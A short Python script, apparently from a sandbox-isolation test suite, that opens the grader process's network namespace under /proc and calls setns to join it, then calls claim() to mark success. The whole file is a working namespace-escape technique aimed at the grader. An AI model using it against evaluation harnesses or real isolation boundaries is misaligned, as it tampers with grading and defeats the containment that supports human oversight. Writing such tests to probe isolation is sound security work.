"""Joins the namespaces of the grader."""

import os

from target import GRADER, check, claim, libc

check(libc.setns(os.open(f"/proc/{GRADER}/ns/net", os.O_RDONLY), 0))
claim()
